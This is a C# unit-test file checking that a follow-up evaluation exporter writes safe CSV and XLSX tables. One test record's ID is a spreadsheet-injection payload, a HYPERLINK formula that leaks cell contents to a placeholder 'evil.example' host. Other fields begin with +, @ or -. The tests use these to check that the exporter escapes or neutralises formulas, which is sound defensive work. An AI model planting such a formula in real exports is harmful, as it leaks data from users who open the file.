using System.IO.Compression;
using System.Text;
using FollowUp.Rules.Serialization;
using FollowUp.Rules.Import.Tests.Infrastructure;
using MiniExcelLibs;
using nietras.SeparatedValues;

namespace FollowUp.Rules.Import.Tests;

public sealed class EvaluationTableWriterTests
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点我\")";

    private static readonly FollowUpEvaluator Evaluator = FollowUpEvaluator.Create(timeProvider: new FixedTime(new DateTimeOffset(2026, 11, 26, 12, 0, 0, TimeSpan.FromHours(8))));

    private static readonly FollowUpRecord Hostile = new()
    {
        Id = Formula,
        Customer = new Customer { Company = "+宏图", Name = "@张伟" },
        Communications = [new Communication { Summary = "-跟进中" }],
    };

    private static readonly FollowUpRecord Plain = new() { Id = "FU-1, \"quoted\"\nline", Owner = "刘洋", Customer = new Customer { Company = "宏图" } };

    [Fact]
    public void Columns_AreIdCustomerOwnerProfileGradeScoreRiskAndTheTopThreeDeductions_ThenTheirMessagesLast()
    {
        Assert.Equal(
            ["id", "customer", "owner", "profile", "grade", "score", "riskLevel", "riskScore",
             "deduction1Code", "deduction1Component", "deduction1Field", "deduction1Points",
             "deduction2Code", "deduction2Component", "deduction2Field", "deduction2Points",
             "deduction3Code", "deduction3Component", "deduction3Field", "deduction3Points",
             "deduction1Message", "deduction2Message", "deduction3Message"],
            EvaluationTableWriter.Columns);
    }

    [Fact]
    public void WriteCsv_FormulaInAnId_IsWrittenAsQuotedText()
    {
        var rows = WriteAndReadCsv([Evaluator.Evaluate(Hostile)]);

        Assert.Equal("'" + Formula, rows[1][0]);
        Assert.All(rows.Skip(1).SelectMany(r => r), cell => Assert.DoesNotMatch("^[=+\\-@]", cell));
    }

    [Fact]
    public void WriteCsv_OneRowPerEvaluationWithTheLargestDeductionsFirst()
    {
        var evaluation = Evaluator.Evaluate(Plain);

        var rows = WriteAndReadCsv([evaluation, Evaluator.Evaluate(Hostile)]);

        Assert.Equal(3, rows.Count);
        Assert.Equal([.. EvaluationTableWriter.Columns], rows[0]);
        var row = rows[1];
        Assert.Equal("FU-1, \"quoted\"\nline", row[0]);
        Assert.Equal("宏图", row[1]);
        Assert.Equal("刘洋", row[2]);
        Assert.Equal(evaluation.Profile, row[3]);
        Assert.Equal(evaluation.Grade.ToString(), row[4]);
        Assert.Equal(Math.Round(evaluation.Score, 2), double.Parse(row[5], System.Globalization.CultureInfo.InvariantCulture));
        Assert.Equal(evaluation.Risk.Level.ToString(), row[6]);
        var top = evaluation.Deductions.OrderByDescending(d => d.Points).Take(3).ToList();
        Assert.Equal(3, top.Count);
        Assert.Equal(top.Select(d => d.Code), new[] { row[8], row[12], row[16] });
        Assert.Equal(top.Select(d => d.Component.ToString()), new[] { row[9], row[13], row[17] });
        Assert.Equal(top.Select(d => d.Field), new[] { row[10], row[14], row[18] });
        Assert.Equal(
            top.Select(d => Math.Round(d.Points, 2)),
            new[] { row[11], row[15], row[19] }.Select(p => double.Parse(p, System.Globalization.CultureInfo.InvariantCulture)));
        Assert.Equal(top.Select(d => d.Message), row[20..23]);
    }

    [Fact]
    public void WriteCsv_Messages_AreInTheCultureTheRecordsWereEvaluatedIn()
    {
        var chinese = WriteAndReadCsv([Evaluator.Evaluate(Plain)])[1];
        var english = WriteAndReadCsv([Evaluator.WithCulture(System.Globalization.CultureInfo.GetCultureInfo("en")).Evaluate(Plain)])[1];

        Assert.Matches(@"\p{IsCJKUnifiedIdeographs}", chinese[20]);
        Assert.DoesNotMatch(@"\p{IsCJKUnifiedIdeographs}", english[20]);
        Assert.NotEqual("", english[20]);
        Assert.Equal(chinese[8], english[8]);
    }

    [Fact]
    public void WriteCsv_OneVagueTextChargedTwice_ShowsEachChargeWithItsComponent()
    {
        var complete = FollowUpJson.DeserializeRecord(File.ReadLines(Path.Combine(Tables.SampleDirectory, "follow-ups.jsonl")).First())!;
        var evaluation = Evaluator.Evaluate(complete with { Needs = complete.Needs! with { Summary = "跟进中" } });

        var row = WriteAndReadCsv([evaluation])[1];

        Assert.Equal(["VagueText", "Clarity", "needs.summary"], row[8..11]);
        Assert.Equal(["VagueText", "Completeness", "needs.summary"], row[12..15]);
    }

    [Fact]
    public void WriteCsv_DefaultEncoding_IsUtf8WithAByteOrderMarkForExcel()
    {
        using var output = new MemoryStream();

        EvaluationTableWriter.WriteCsv(output, [Evaluator.Evaluate(Plain)]);

        Assert.Equal([0xEF, 0xBB, 0xBF], output.ToArray()[..3]);
        Assert.True(output.CanWrite, "the writer leaves the stream open");
    }

    [Fact]
    public async Task WriteCsvAsync_WritesWhatWriteCsvWrites()
    {
        var evaluations = new[] { Evaluator.Evaluate(Plain), Evaluator.Evaluate(Hostile) };
        using var sync = new MemoryStream();
        using var async = new MemoryStream();

        EvaluationTableWriter.WriteCsv(sync, evaluations, new UTF8Encoding(false));
        await EvaluationTableWriter.WriteCsvAsync(async, evaluations.ToAsyncEnumerable(), new UTF8Encoding(false));

        Assert.Equal(Encoding.UTF8.GetString(sync.ToArray()), Encoding.UTF8.GetString(async.ToArray()));
        Assert.StartsWith("id,customer,owner,profile,grade", Encoding.UTF8.GetString(sync.ToArray()), StringComparison.Ordinal);
    }

    [Fact]
    public void WriteXlsx_FormulaInAnId_IsAStringCellKeptAsItIs_AndTheSheetHasNoFormula()
    {
        using var output = new MemoryStream();

        EvaluationTableWriter.WriteXlsx(output, [Evaluator.Evaluate(Hostile), Evaluator.Evaluate(Plain)]);

        output.Position = 0;
        var rows = MiniExcel.Query(output, useHeaderRow: true).Cast<IDictionary<string, object?>>().ToList();
        Assert.Equal(2, rows.Count);
        Assert.Equal(Formula, rows[0]["id"]);
        Assert.IsType<double>(rows[0]["score"]);
        Assert.Equal(Evaluator.Evaluate(Hostile).TopDeductions(1)[0].Message, rows[0]["deduction1Message"]);
        Assert.Equal([.. EvaluationTableWriter.Columns], rows[0].Keys);
        using var archive = new ZipArchive(new MemoryStream(output.ToArray()));
        foreach (var entry in archive.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)))
        {
            using var reader = new StreamReader(entry.Open());
            var xml = reader.ReadToEnd();
            Assert.DoesNotContain("<x:f>", xml, StringComparison.Ordinal);
            Assert.DoesNotContain("<f>", xml, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void WriteXlsx_WriteOnlyFile_IsWrittenInOnePass()
    {
        var path = Path.Combine(Path.GetTempPath(), $"followup-{Guid.NewGuid():N}.xlsx");
        var enumerations = 0;
        IEnumerable<FollowUpEvaluation> Evaluations()
        {
            enumerations++;
            yield return Evaluator.Evaluate(Plain);
        }

        try
        {
            using (var file = new FileStream(path, FileMode.Create, FileAccess.Write))
            {
                EvaluationTableWriter.WriteXlsx(file, Evaluations());
            }

            Assert.Equal(1, enumerations);
            Assert.Single(MiniExcel.Query(path, useHeaderRow: true));
        }
        finally
        {
            File.Delete(path);
        }
    }

    [Fact]
    public void WriteXlsx_NoEvaluations_WritesTheHeader()
    {
        using var output = new MemoryStream();

        EvaluationTableWriter.WriteXlsx(output, []);

        output.Position = 0;
        var header = (IDictionary<string, object?>)MiniExcel.Query(output, useHeaderRow: false).First();
        Assert.Equal(EvaluationTableWriter.Columns, header.Values.Select(v => v?.ToString()));
    }

    private static List<string[]> WriteAndReadCsv(IEnumerable<FollowUpEvaluation> evaluations)
    {
        using var output = new MemoryStream();
        EvaluationTableWriter.WriteCsv(output, evaluations);
        output.Position = 0;
        using var reader = Sep.Reader(o => o with { HasHeader = false, Unescape = true }).From(output);
        var rows = new List<string[]>();
        foreach (var row in reader)
        {
            var cells = new string[row.ColCount];
            for (var i = 0; i < cells.Length; i++)
            {
                cells[i] = row[i].ToString();
            }

            rows.Add(cells);
        }

        return rows;
    }
}
